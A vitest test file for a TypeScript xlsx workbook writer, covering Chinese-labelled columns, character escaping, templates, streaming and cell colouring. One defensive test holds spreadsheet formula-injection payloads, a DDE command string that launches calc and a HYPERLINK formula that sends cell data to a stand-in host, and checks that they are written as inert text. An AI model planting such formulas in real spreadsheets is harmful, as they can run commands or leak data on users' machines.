import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { read } from "xlsx";
import type { CellInput, SheetColumn, SheetSpec, WorkbookSpec } from "../../src-shared/kernel/workbook/sheet-spec.ts";
import { readWorkbook } from "../imports/spreadsheet/open-workbook.ts";
import type { SourceRow } from "../imports/spreadsheet/source/source-row.ts";
import { writeWorkbook } from "./workbook-writer.ts";

const columns: SheetColumn[] = [
  { title: "姓名", kind: "text", width: 20 },
  { title: "金额", kind: "cents" },
  { title: "人数", kind: "integer" },
  { title: "日期", kind: "date" },
  { title: "内部", kind: "text", hidden: true },
];

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(path.join(tmpdir(), "writer-"));
});
afterEach(() => rm(folder, { recursive: true }));

const target = (): string => path.join(folder, "out.xlsx");

async function written(rows: SheetSpec["rows"], more: Partial<SheetSpec> = {}, stringStyle?: "shared" | "inline") {
  const sheet: SheetSpec = { name: "账单", columns, rows, ...more };
  await writeWorkbook(target(), { sheets: [sheet], ...(stringStyle === undefined ? {} : { stringStyle }) });
  const read: SourceRow[] = [];
  const facts = await readWorkbook({ path: target() }, { name: "out.xlsx", onRow: (row) => read.push(row) });
  return { facts, rows: read.map((row) => row.cells.map((cell) => `${cell.kind}:${cell.text}`)) };
}

const styles: ["shared" | "inline"][] = [["shared"], ["inline"]];

describe.each(styles)("with %s strings", (stringStyle) => {
  it("writes every kind so that our reader and SheetJS read the same", async () => {
    const { facts, rows } = await written(
      [
        ["张三", 123_450, 3, "2026-02-28", "x"],
        ["张三", -5, -1, "2026-02-28 09:08:07", null],
        ["", 0, 0, undefined, "y"],
        [null, 900_719_925_474_0991, 1, "soon", ""],
      ],
      { freezeHeader: true },
      stringStyle,
    );
    expect(facts).toMatchObject({ sheet: "账单", rows: 5, formulas: 0 });
    expect(rows).toEqual([
      ["text:姓名", "text:金额", "text:人数", "text:日期", "text:内部"],
      ["text:张三", "number:1234.50", "number:3", "date:2026-02-28", "text:x"],
      ["text:张三", "number:-0.05", "number:-1", "date:2026-02-28 09:08:07"],
      ["empty:", "number:0.00", "number:0", "empty:", "text:y"],
      ["empty:", "number:90071992547409.91", "number:1", "text:soon"],
    ]);
    const sheet = read(await readFile(target())).Sheets["账单"];
    expect(sheet?.["A2"]).toMatchObject({ t: "s", v: "张三" });
    expect(sheet?.["B2"]).toMatchObject({ t: "n", v: 1234.5, w: "1234.50" });
    expect(sheet?.["D2"]).toMatchObject({ t: "n", w: "2026-02-28" });
    expect(sheet?.["D3"]).toMatchObject({ w: "2026-02-28 09:08:07" });
    expect(sheet?.["!ref"]).toBe("A1:E5");
  });

  it("keeps every character of a text that a file can carry, and leaves the rest out", async () => {
    const texts = [" a ", "a\nb\rc\r\nd\te", "<&>\"'", "_x0041_", "𠮷\u{10ffff}", "\u007f", "中".repeat(32_767)];
    const { rows } = await written(
      texts.map((text) => [text]),
      {},
      stringStyle,
    );
    expect(rows.slice(1).map((row) => row[0])).toEqual(texts.map((text) => `text:${text}`));
    const odd = await written([["a\u0000\u0007\u001fb\ud800c\udc00d\uffffe"]], {}, stringStyle);
    expect(odd.rows[1]).toEqual(["text:abcde"]);
  });

  it("writes texts that look like formulas or numbers as texts", async () => {
    const texts = [
      "=1+1",
      "+1",
      "-1",
      "@SUM(A1)",
      '=HYPERLINK("http://x/"&A1,"k")',
      "=cmd|'/c calc'!A1",
      "＝1+1",
      "6222021234567890123",
      "11010119900101123X",
      "013800138000",
    ];
    const { facts, rows } = await written(
      texts.map((text) => [text]),
      {},
      stringStyle,
    );
    expect(rows.slice(1)).toEqual(texts.map((text) => [`text:${text}`]));
    expect(facts.formulas).toBe(0);
    const sheet = read(await readFile(target()), { cellFormula: true }).Sheets["账单"] ?? {};
    const cells = Object.entries(sheet).filter(([name]) => !name.startsWith("!"));
    expect(cells.filter(([, cell]) => cell.f !== undefined || cell.t !== "s")).toEqual([]);
  });
});

describe("templates", () => {
  const long = Array.from({ length: 100 }, (_, index) => `任务${index}`);
  it("carry drop-downs, notes and hidden columns that do not disturb the rows", async () => {
    const { facts, rows } = await written([["a"]], {
      dropDowns: [
        { column: 0, values: ["是", "否"] },
        { column: 4, values: long },
      ],
      notes: [
        { column: 0, text: '填写 "姓名" <必填>' },
        { column: 1, text: "元" },
      ],
    });
    expect(rows).toHaveLength(2);
    expect(facts).toMatchObject({ sheet: "账单", hiddenSheets: ["_lists"], otherSheets: [] });
    const book = read(await readFile(target()), { cellStyles: true });
    expect(book.Sheets["账单"]?.["!cols"]?.[4]?.hidden).toBe(true);
    expect(book.Sheets["_lists"]?.["A100"]).toMatchObject({ v: "任务99" });
  });
  it("may hold several sheets of any name", async () => {
    const sheet = (name: string): SheetSpec => ({ name, columns, rows: [] });
    await writeWorkbook(target(), { sheets: [sheet("a/b:c"), sheet("x".repeat(40)), sheet("<&>")] });
    expect(read(await readFile(target())).SheetNames).toEqual(["a b c", "x".repeat(31), "<&>"]);
  });
});

describe("large and failing sources", () => {
  async function* many(count: number): AsyncGenerator<readonly CellInput[]> {
    for (let index = 0; index < count; index++) yield [`name ${index}`, index, index, "2026-01-02"];
  }
  it("streams rows that come one at a time", async () => {
    const { facts, rows } = await written(many(20_000));
    expect(facts.rows).toBe(20_001);
    expect(rows.at(-1)).toEqual(["text:name 19999", "number:199.99", "number:19999", "date:2026-01-02"]);
  });
  it("leaves nothing behind when the source fails", async () => {
    const own = new Error("mine");
    async function* failing(): AsyncGenerator<readonly CellInput[]> {
      yield* many(5000);
      throw own;
    }
    await expect(written(failing())).rejects.toBe(own);
    expect(await readdir(folder)).toEqual([]);
  });
  const impossible: [name: string, row: CellInput[]][] = [
    ["half a cent", ["a", 0.5]],
    ["more than a number can hold", ["a", 2 ** 53]],
    ["no number at all", ["a", 1, Number.NaN]],
    ["a text of 32,768 characters", ["a".repeat(32_768)]],
  ];
  it.each(impossible)("refuses %s", async (_, row) => {
    const workbook: WorkbookSpec = { sheets: [{ name: "a", columns, rows: [row] }] };
    await expect(writeWorkbook(target(), workbook)).rejects.toBeInstanceOf(RangeError);
    expect(await readdir(folder)).toEqual([]);
  });
});

it("colours marked cells of every kind, empty ones too, and carries no such style otherwise", async () => {
  const row = ["甲", 1_234, 5, "2026-10-01", null].map((value) => ({ value, mark: "error" as const }));
  const warned = ["乙", 1, 2, "没有", ""].map((value) => ({ value, mark: "warning" as const }));
  const sheets = [{ name: "账单", columns, rows: [row, warned, ["丙", 3, 4, "2026-10-02", "x"]] }];
  await writeWorkbook(target(), { sheets, hasMarks: true });
  const sheet = read(await readFile(target()), { cellStyles: true, cellNF: true, sheetStubs: true }).Sheets["账单"];
  const colors = (line: number) =>
    ["A", "B", "C", "D", "E"].map((letter) => sheet?.[`${letter}${line}`]?.s?.fgColor?.rgb as string | undefined);
  expect(colors(2)).toEqual(Array(5).fill("FBD5D5"));
  expect(colors(3)).toEqual(Array(5).fill("FFF0C2"));
  expect(colors(4)).toEqual(Array(5).fill(undefined));
  expect([sheet?.["B2"]?.w, sheet?.["C2"]?.w, sheet?.["D2"]?.w]).toEqual(["12.34", "5", "2026-10-01"]);
  expect([sheet?.["B4"]?.z, sheet?.["B2"]?.z]).toEqual(["0.00", "0.00"]);
});
